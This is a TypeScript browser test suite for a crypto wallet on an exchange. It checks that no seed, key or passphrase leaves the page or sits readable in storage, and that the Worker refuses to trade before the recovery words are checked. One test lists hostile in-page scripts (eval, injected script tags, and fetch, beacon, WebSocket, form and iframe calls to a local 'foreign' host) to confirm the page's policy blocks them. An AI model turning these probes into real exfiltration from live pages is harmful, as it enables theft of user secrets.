/**
 * What leaves a browser and what stays in it: every byte that is sent while a key is made, used and
 * restored, everything that is stored, and what the page's policy lets a hostile script do.
 */
import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import { after, before, test } from "node:test";
import type { Page } from "playwright-core";

import { keyNumber } from "../../codec/keynumber.ts";
import { customerKeyFromSeed, readCustomerKey } from "../../seal/keys.ts";
import { ethereumKeyOf } from "../../wallet/ringkey.ts";
import { seedOf } from "../../wallet/words.ts";
import { noBrowser, TestBrowser, type Sent } from "../../testing/browser.ts";
import { freePort, TestExchange } from "../../testing/exchange.ts";
import { Newcomer } from "../../testing/newcomer.ts";
import { formsOf } from "../../testing/secretforms.ts";

const skip = noBrowser();
const passphrase = "correct horse battery staple";
let exchange: TestExchange;
let browser: TestBrowser;
let newcomer: Newcomer;
let words: readonly string[] = [];

/** A host that the page has no business with. */
let foreign: Server;
let foreignUrl = "";
const foreignAsked: string[] = [];

before(async () => {
  if (skip !== false) return;
  exchange = await TestExchange.create();
  const port = await freePort();
  foreignUrl = `http://127.0.0.1:${port}`;
  foreign = createServer((request, response) => {
    foreignAsked.push(request.url ?? "");
    response.setHeader("access-control-allow-origin", "*");
    response.end("self.stolen = true;");
  });
  foreign.listen(port, "127.0.0.1");
  await exchange.start();
  browser = await TestBrowser.launch();
});

after(async () => {
  await browser?.close();
  foreign?.close();
  await exchange?.remove();
});

/** All forms of everything that must not leave. */
async function secrets(): Promise<readonly Buffer[]> {
  const seed = seedOf(words.join(" "));
  assert.ok(seed.ok);
  const made = await customerKeyFromSeed(seed.value, { userId: "Signet customer" });
  const { key } = await readCustomerKey(made.secret);
  const numbers = key.getKeys().flatMap(({ keyPacket }) => {
    const params = "privateParams" in keyPacket ? keyPacket.privateParams : null;
    return Object.values(params ?? {}).filter((value) => value instanceof Uint8Array);
  });
  assert.ok(numbers.length >= 2, "a key to sign and a key to open");
  const keys = [seed.value, ethereumKeyOf(seed.value), ...numbers, Buffer.from(passphrase)];
  const threes = words.slice(2).flatMap((_, i) => {
    const three = words.slice(i, i + 3);
    return [" ", "\n", ",", ", ", "-", "+", "%20", '","', ""].map((by) =>
      Buffer.from(three.join(by)),
    );
  });
  return [...keys.flatMap((one) => formsOf(one)), ...threes];
}

/** Throws if any of the bytes hold a secret. */
async function holdsNoSecret(bytes: readonly Buffer[], where: string): Promise<void> {
  const forms = await secrets();
  for (const one of bytes) {
    for (const form of forms) assert.ok(!one.includes(form), `a secret is in ${where}`);
  }
}

function bytesOf({ method, url, headers, body }: Sent): readonly Buffer[] {
  return [
    Buffer.from(`${method} ${url} ${decodeURIComponent(url)} ${JSON.stringify(headers)}`),
    body,
  ];
}

test(
  "while a key is made, used and restored, no byte that leaves tells of it",
  { skip },
  async () => {
    newcomer = new Newcomer(await browser.open(`${exchange.url}/wallet`));
    words = await newcomer.makeKey();
    await newcomer.checkWords(words);
    await newcomer.lockWith(passphrase);
    const number = await newcomer.deposit("10", "BTC");
    assert.match(number, /^\d+$/);
    const shown = await newcomer.order({ side: "Buy", quantity: "1", price: "0.04" });
    await newcomer.sign();
    await newcomer
      .journey("Buy 1 GLD")
      .getByText(/rejected|Rejected/)
      .first()
      .waitFor();
    const restored = new Newcomer(await browser.open(`${exchange.url}/wallet`));
    await restored.restore(words.join(" "));
    await restored.press("Only for this tab");
    await restored.isOpen();
    const sent = [...newcomer.opened.sent, ...restored.opened.sent];
    // The recording works: the letters are in it, sealed, from inside the Worker; no text is.
    const letters = sent.filter(
      ({ method, url }) => method === "POST" && url.endsWith("/v1/letters"),
    );
    assert.ok(letters.length >= 5, `${letters.length} letters`);
    for (const { body } of letters) assert.ok(body.length > 500);
    const command = shown.split("\n").find((line) => line.startsWith("BUY")) ?? "BUY";
    assert.ok(sent.every(({ body }) => !body.includes(command)));
    await holdsNoSecret(sent.flatMap(bytesOf), "what was sent");
    assert.deepEqual(newcomer.opened.origins, [exchange.url]);
    assert.deepEqual(restored.opened.origins, [exchange.url]);
    await holdsNoSecret([Buffer.from(restored.page.url())], "the address");
    await restored.opened.close();
  },
);

/** Everything that the page's origin has stored, as bytes. */
async function stored(page: Page): Promise<readonly Buffer[]> {
  const found: unknown = await page.evaluate(`(async () => {
    const texts = [JSON.stringify(localStorage), JSON.stringify(sessionStorage), document.cookie,
      location.href, JSON.stringify(history.state)];
    const parts = texts.map((text) => Array.from(new TextEncoder().encode(text)));
    const caches_ = await caches.keys();
    if (caches_.length > 0) throw new Error("caches");
    for (const { name } of await indexedDB.databases()) {
      const database = await new Promise((resolve, reject) => {
        const opening = indexedDB.open(name);
        opening.onsuccess = () => resolve(opening.result);
        opening.onerror = reject;
      });
      for (const store of database.objectStoreNames) {
        const all = await new Promise((resolve) => {
          const asked = database.transaction(store).objectStore(store).getAll();
          asked.onsuccess = () => resolve(asked.result);
        });
        for (const record of all) {
          parts.push(Array.from(new TextEncoder().encode(JSON.stringify(record))));
          for (const value of Object.values(record)) {
            if (value instanceof Uint8Array) parts.push(Array.from(value));
          }
        }
      }
      database.close();
    }
    return parts;
  })()`);
  assert.ok(Array.isArray(found));
  return found.map((part: readonly number[]) => Buffer.from(part));
}

test("what the browser keeps tells nothing: no name, no text, no key", { skip }, async () => {
  const parts = await stored(newcomer.page);
  assert.ok(parts.length > 20, "the wallet is kept");
  await holdsNoSecret(parts, "the browser's storage");
  const seed = seedOf(words.join(" "));
  assert.ok(seed.ok);
  // Which exchange a browser looks at is no secret, and the market page remembers it; whose
  // account is here is one.
  const { fingerprint } = await customerKeyFromSeed(seed.value, { userId: "Signet customer" });
  const plain = ["BEGIN PGP", "signet-report", "BUY|", "outbox", "key.asc", "reports/"];
  for (const text of [...plain, fingerprint, keyNumber(fingerprint)]) {
    assert.ok(
      parts.every((part) => !part.includes(text)),
      `${text} is readable`,
    );
  }
});

/** Runs apart from the evaluation itself, which the policy would let do anything. */
function later(script: string): string {
  return `new Promise((resolve) => setTimeout(async () => {
    try { resolve(String(await (async () => { ${script} })())); } catch (error) { resolve("refused: " + error.name); }
  }, 0))`;
}

test("a script in the page runs no other, and reaches no other host", { skip }, async () => {
  const hostile = [
    `return new Function("return 'ran'")()`,
    `return eval("'ran'")`,
    `const s = document.createElement("script"); s.textContent = "window.ran = 1";
     document.body.append(s); return window.ran === 1 ? "ran" : "refused: inline"`,
    `await fetch("${foreignUrl}/fetch"); return "ran"`,
    `return navigator.sendBeacon("${foreignUrl}/beacon", "x") && "sent, see the host"`,
    `return new Promise((r) => { const i = new Image(); i.src = "${foreignUrl}/image";
     i.onload = i.onerror = () => r("refused: image"); })`,
    `await import("${foreignUrl}/module.js"); return "ran"`,
    `const w = new WebSocket("${foreignUrl.replace("http", "ws")}/socket");
     return new Promise((r) => { w.onopen = () => r("ran"); w.onerror = () => r("refused: socket"); })`,
    `const w = new Worker(URL.createObjectURL(new Blob(["postMessage('ran')"])));
     return new Promise((r) => { w.onmessage = ({ data }) => r(data); w.onerror = () => r("refused: worker"); })`,
    `const f = document.createElement("form"); f.action = "${foreignUrl}/form"; f.target = "_blank";
     document.body.append(f); f.submit(); return "sent, see the host"`,
    `const f = document.createElement("iframe"); f.src = "${foreignUrl}/frame"; document.body.append(f);
     return new Promise((r) => { f.onload = () => r("refused: frame"); })`,
  ];
  for (const script of hostile) {
    const came = await newcomer.page.evaluate(later(script));
    assert.match(String(came), /^refused|^sent/, script);
  }
  const [worker] = newcomer.page.workers();
  assert.ok(worker, "the wallet's Worker");
  for (const script of [hostile[0], hostile[3], hostile[6]]) {
    const came = await worker.evaluate(later(script ?? ""));
    assert.match(String(came), /^refused/, script);
  }
  assert.deepEqual(foreignAsked, []);
});

test(
  "trading is off until the words are checked, whatever a page asks the Worker",
  { skip },
  async () => {
    const list = await (await fetch(`${exchange.url}/build.txt`)).text();
    const script = /assets\/worker-[\w-]+\.js/.exec(list)?.[0] ?? "";
    const opened = await browser.open(`${exchange.url}/explain`);
    const said: unknown = await opened.page.evaluate(`(async () => {
    const worker = new Worker("/${script}", { type: "module" });
    const views = [];
    worker.onmessage = ({ data }) => views.push(data.view);
    const until = async (is) => {
      while (!views.some(is)) await new Promise((resolve) => setTimeout(resolve, 20));
    };
    const call = (name, ask) => new Promise((resolve) => {
      const { port1, port2 } = new MessageChannel();
      port1.onmessage = ({ data }) => resolve(data);
      worker.postMessage({ name, ask }, [port2]);
    });
    await until((view) => view.kind === "none" && view.exchange !== undefined);
    const form = { side: "buy", market: "GLD/BTC", quantity: "1", price: "0.04" };
    const codes = [(await call("compose", form)).code];
    const made = await call("make", { compared: true });
    for (const [name, ask] of [["compose", form], ["deposit", { asset: "BTC", amount: "1" }],
      ["send", { draft: "1" }], ["cancelAll", {}]]) codes.push((await call(name, ask)).code);
    codes.push((await call("lockWith", { kind: "memory" })).code);
    codes.push((await call("check", { answers: ["zoo", "zoo", "zoo"] })).code);
    const { ask } = views.findLast((view) => view.kind === "unchecked");
    const answers = ask.map((place) => made.value.words[place - 1].toUpperCase());
    codes.push((await call("check", { answers })).ok);
    codes.push((await call("compose", form)).code);
    codes.push((await call("lockWith", { kind: "passphrase", passphrase: "short" })).code);
    codes.push((await call("lockWith", { kind: "memory" })).ok);
    await until((view) => view.kind === "open" && view.account.registered);
    codes.push((await call("compose", form)).ok, (await call("lock", {})).code);
    codes.push((await call("make", { compared: true })).code);
    return codes;
  })()`);
    const off = ["E720", "E720", "E720", "E720", "E720"];
    const after = ["E721", true, "E725", "E729", true, true, "E728", "E705"];
    assert.deepEqual(said, ["E725", ...off, ...after]);
    await opened.close();
  },
);
